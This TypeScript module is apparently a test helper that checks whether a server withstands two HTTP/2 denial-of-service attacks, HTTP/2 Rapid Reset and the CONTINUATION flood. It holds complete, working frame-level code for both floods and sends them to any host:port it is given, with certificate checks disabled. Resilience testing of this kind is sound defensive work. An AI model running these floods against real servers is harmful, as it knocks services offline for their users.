import { connect, type SecureContextOptions, type TLSSocket } from 'node:tls';

/** Octets of HTTP/2 (RFC 9113) as a hostile peer sends them. */
export type Flood = (socket: TLSSocket) => void;

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** `POST`, `https`, `/` and `:authority: x` (RFC 7541 §6.1, §6.2.1). */
const REQUEST = Buffer.from([0x83, 0x87, 0x84, 0x41, 0x01, 0x78]);
/** A literal that is not indexed: `y: xxx…`, 100 octets. */
const FIELD = Buffer.concat([Buffer.from([0x00, 0x01, 0x79, 0x64]), Buffer.alloc(100, 'x')]);
const FRAMES = 50_000;

/** Opens a stream and takes it back, again and again: each costs the server more than the client (CVE-2023-44487). */
export const rapidReset: Flood = (socket) => {
  write(socket, (i) => {
    const stream = 2 * i + 1;
    return Buffer.concat([
      frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST),
      frame(RST_STREAM, 0, stream, CANCEL),
    ]);
  });
};

/** A header that never ends (CVE-2024-27983). */
export const continuationFlood: Flood = (socket) => {
  socket.write(frame(HEADERS, END_STREAM, 1, REQUEST));
  write(socket, () => frame(CONTINUATION, 0, 1, FIELD));
};

/** Sends a flood to `address` (`host:port`) and resolves with the frames that it took until the server had closed; rejects when it has not after `patience` ms. */
export function flood(
  address: string,
  tls: SecureContextOptions,
  run: Flood,
  patience = 20_000,
): Promise<void> {
  const [host, port] = address.split(':') as [string, string];
  return new Promise((resolve, reject) => {
    const socket = connect({
      ...tls,
      host,
      port: Number(port),
      servername: 'callee.gigvault.local',
      checkServerIdentity: () => undefined,
      ALPNProtocols: ['h2'],
    });
    socket.setTimeout(patience, () => {
      socket.destroy();
      reject(new Error('the server goes on listening to a flood'));
    });
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') reject(error);
    });
    socket.on('close', () => resolve());
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      run(socket);
    });
    socket.resume();
  });
}

/** As fast as the other side takes them, and no more than FRAMES. */
function write(socket: TLSSocket, next: (i: number) => Buffer): void {
  let i = 0;
  const more = () => {
    while (i < FRAMES && socket.writable) if (!socket.write(next(i++))) return;
  };
  socket.on('drain', more);
  more();
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}
